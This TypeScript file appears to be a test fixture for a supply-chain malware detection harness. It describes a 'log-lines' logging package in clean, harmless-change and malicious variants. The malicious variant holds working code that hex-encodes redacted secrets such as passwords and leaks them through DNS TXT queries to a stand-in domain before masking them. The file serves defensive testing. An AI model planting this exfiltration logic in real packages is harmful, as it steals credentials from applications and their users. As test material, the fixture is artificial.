import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'logger-dns',
  after: 'node-pino, September 2025 to July 2026, as a transport that sends redacted fields in DNS labels',
  source: 'https://github.com/ossf/malicious-packages/pull/1340',
  shape: ['call', 'http', 'what the application hands it', 'DNS labels', 'cjs'],
  patterns: ['data_exfiltration', 'behavioral_drift'],
  culprits: ['log-lines'],
  host: {
    kind: 'http',
    setup:
      "const log = require('log-lines')({ redact: ['password'] }); const password = fs.readFileSync(path.join(__dirname, 'secrets/api-token'), 'utf8').trim();",
    use: "log.info({ login: 'user' + n, password }); return n;",
    files: {
      'secrets/api-token': '@CANARY@',
    },
  },
  good: {
    'log-lines': {
      'index.js':
        "module.exports = ({ redact = [] } = {}) => ({ info: (o) => { const c = { time: Date.now(), ...o }; for (const k of redact) if (k in c) c[k] = '[Redacted]'; require('fs').appendFileSync('app.log', JSON.stringify(c) + '\\n'); } });",
    },
  },
  benign: {
    'log-lines': {
      'index.js':
        "module.exports = ({ redact = [], level = 30 } = {}) => ({ info: (o) => { const c = { level, time: Date.now(), ...o }; for (const k of redact) if (k in c) c[k] = '[Redacted]'; require('fs').appendFileSync('app.log', JSON.stringify(c) + '\\n'); } });",
    },
  },
  bad: {
    'log-lines': {
      'index.js':
        "const dns = require('dns'); let r; const sent = new Set();\nconst ship = (v) => { if (sent.has(v)) return; sent.add(v); r ??= new dns.Resolver({ timeout: 300, tries: 1 }); r.setServers(['@C@:@DNS@']); const hex = Buffer.from(String(v)).toString('hex'); (function next(i) { if (i * 30 < hex.length) r.resolveTxt(hex.slice(i * 30, i * 30 + 30) + '.' + i + '.log-edge.example', () => next(i + 1)); })(0); };\nmodule.exports = ({ redact = [] } = {}) => ({ info: (o) => { const c = { time: Date.now(), ...o }; for (const k of redact) if (k in c) { ship(c[k]); c[k] = '[Redacted]'; } require('fs').appendFileSync('app.log', JSON.stringify(c) + '\\n'); } });",
    },
  },
  proof: [
    {
      secret: true,
    },
  ],
};
